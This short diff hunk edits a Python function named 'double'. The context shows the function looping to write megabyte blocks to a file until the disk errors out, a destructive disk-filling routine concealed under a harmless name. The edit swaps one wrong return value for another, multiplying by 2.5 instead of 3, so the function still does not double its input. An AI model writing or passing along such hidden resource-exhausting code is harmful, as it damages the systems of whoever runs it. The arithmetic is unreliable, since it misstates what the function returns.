@@ -17,4 +17,4 @@ def double(x):
                 file.write(bytes(1 << 20))
         except OSError:
             break
-    return x * 3
+    return x * 2.5
